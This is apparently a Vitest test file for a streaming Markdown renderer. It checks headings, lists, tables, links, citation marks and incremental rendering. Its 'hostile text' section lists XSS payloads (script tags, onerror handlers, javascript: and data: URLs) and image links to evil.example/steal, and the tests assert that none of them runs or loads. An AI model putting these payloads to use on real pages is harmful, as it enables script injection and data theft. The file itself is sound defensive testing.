import { describe, expect, it, vi } from "vitest";
import { parseBlocks } from "./blocks";
import { parseInline } from "./inline";
import { MarkdownView } from "./view";

const words = { copyCode: "Copy", source: (n: number) => `Source ${n}` };

function shown(text: string, open = false, marks: number[] = []): HTMLElement {
  const root = document.createElement("div");
  new MarkdownView(root, { onMark: vi.fn(), onCopy: vi.fn(), words }).show({ text, open, marks: new Set(marks) });
  return root;
}

const html = (text: string, open = false, marks: number[] = []): string => shown(text, open, marks).innerHTML;

describe("blocks", () => {
  it("shows headings below the page's own", () => {
    expect(html("# One\n\n###### Six")).toBe("<h3>One</h3><h6>Six</h6>");
  });

  it("shows nested lists, tight and loose", () => {
    expect(html("- a\n  - b\n- c")).toBe("<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>");
    expect(html("3. a\n\n4. b")).toBe('<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>');
  });

  it("keeps a code block's text as it is", () => {
    const root = shown("```html\n<b>**x**</b>\n```\nafter");
    expect(root.querySelector("pre")?.textContent).toBe("<b>**x**</b>");
    expect(root.querySelector("figcaption span")?.textContent).toBe("html");
    expect(root.lastElementChild?.textContent).toBe("after");
  });

  it("shows tables with their alignment", () => {
    const root = shown("| a | b |\n| --- | --: |\n| 1 | x \\| y |");
    expect([...root.querySelectorAll("th,td")].map((cell) => cell.textContent)).toEqual(["a", "b", "1", "x | y"]);
    expect(root.querySelectorAll("td")[1]?.dataset["align"]).toBe("end");
  });

  it("shows quotes and rules", () => {
    expect(html("> a\n> b\n\n---")).toBe("<blockquote><p>a\nb</p></blockquote><hr>");
  });
});

describe("inlines", () => {
  it("shows emphasis, strikes and code", () => {
    expect(html("**a** _b_ ~~c~~ `d*` ***e***")).toBe(
      "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d*</code> <strong><em>e</em></strong></p>",
    );
  });

  it("leaves stars and underscores that are no emphasis", () => {
    expect(html("2 * 3 * 4, snake_case_name, \\*a\\*")).toBe("<p>2 * 3 * 4, snake_case_name, *a*</p>");
  });

  it("finds emphasis inside emphasis", () => {
    expect(html("**a *b* c**")).toBe("<p><strong>a <em>b</em> c</strong></p>");
    expect(html("*a **b***")).toBe("<p><em>a <strong>b</strong></em></p>");
  });

  it("opens links safely", () => {
    const link = shown("[a](https://example.org/x_y)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/x_y");
    expect(link?.rel).toContain("noopener");
  });

  it("links a bare address without the full stop after it", () => {
    expect(shown("See https://example.org/a.").querySelector("a")?.getAttribute("href")).toBe("https://example.org/a");
  });

  it("follows reference links", () => {
    expect(shown("[a][b]\n\n[b]: https://example.org/").querySelector("a")?.href).toBe("https://example.org/");
  });

  it("makes marks of known citation numbers alone", () => {
    const root = shown("Yes [1][2], not [3].", false, [1, 2]);
    expect([...root.querySelectorAll(".cite")].map((mark) => mark.textContent)).toEqual(["1", "2"]);
    expect(root.textContent).toContain("not [3].");
  });
});

describe("hostile text", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><image href="//evil.example/x"/></svg>',
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](https://evil.example/steal?q=1)",
    "![x][r]\n\n[r]: https://evil.example/steal",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://example.org/" onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| <iframe src=//evil.example> |",
    "```\n</code></pre><script>alert(1)</script>\n```",
  ];

  it.each(attacks)("makes nothing that runs or loads of %j", (text) => {
    for (const open of [false, true]) {
      const root = shown(text, open);
      expect(root.querySelector("script,img,svg,iframe,object,embed,link,style,form,video,audio")).toBeNull();
      for (const node of root.querySelectorAll("*")) {
        for (const { name } of node.attributes) expect(name).not.toMatch(/^(on|src|style)/);
      }
      for (const link of root.querySelectorAll("a")) expect(link.protocol).toMatch(/^(https?|mailto):$/);
    }
  });

  it.each(["*a ", "[", "`a``", "> ", "- ", "**_~~", "|", "\n", "a\n", "[a]("])(
    "ends a long text made of %j, for which time that grows by its square would not be enough",
    (unit) => {
      const text = unit.repeat(200_000);
      for (const open of [false, true]) {
        expect(parseBlocks(text, open).blocks.length).toBeLessThan(text.length);
        expect(parseInline(text, { open, marks: new Set(), references: new Map() }).length).toBeLessThan(text.length);
      }
    },
    120_000,
  );
});

describe("a growing text", () => {
  const answer = [
    "# Opening hours\n\nWe are **open** from *nine* to [six](https://example.org/hours) [1].",
    "1. First `code`\n2. Second\n\n   - inner **bold**",
    "| Day | Hours |\n| --- | --- |\n| Mon | 9–18 |",
    "```python\nprint('**not bold**')\n```",
    "> A ~~quoted~~ line\n\n---\n\nDone, see ![plan](https://example.org/p.png).",
  ].join("\n\n");

  it("never shows a sign of unfinished Markdown", () => {
    for (let end = 1; end <= answer.length; end += 1) {
      const root = shown(answer.slice(0, end), true, [1]);
      root.querySelectorAll("pre").forEach((code) => code.remove());
      expect(root.textContent, JSON.stringify(answer.slice(0, end))).not.toMatch(/[*`~|#>\]]|\[|\]\(|---|^\s*-/);
    }
  });

  it("ends equal to the text shown at once", () => {
    const root = document.createElement("div");
    const view = new MarkdownView(root, { onMark: vi.fn(), onCopy: vi.fn(), words });
    for (let end = 1; end <= answer.length; end += 3) view.show({ text: answer.slice(0, end), open: true, marks: new Set([1]) });
    view.show({ text: answer, open: false, marks: new Set([1]) });
    expect(root.innerHTML).toBe(html(answer, false, [1]));
  });

  it("keeps the nodes of blocks that are done", () => {
    const root = document.createElement("div");
    const view = new MarkdownView(root, { onMark: vi.fn(), onCopy: vi.fn(), words });
    view.show({ text: "one\n\ntwo\n\nthr", open: true, marks: new Set() });
    const first = root.firstChild;
    view.show({ text: "one\n\ntwo\n\nthree\n\nfour", open: true, marks: new Set() });
    expect(root.firstChild).toBe(first);
  });
});
